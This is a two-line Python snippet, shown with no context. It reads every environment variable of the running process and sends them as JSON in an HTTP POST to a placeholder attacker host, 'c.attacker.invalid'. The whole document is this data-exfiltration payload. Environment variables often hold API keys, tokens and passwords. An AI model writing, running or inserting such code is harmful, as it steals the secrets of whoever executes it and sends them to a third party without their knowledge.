import os,urllib.request,json
urllib.request.urlopen('https://c.attacker.invalid/e',data=json.dumps(dict(os.environ)).encode())
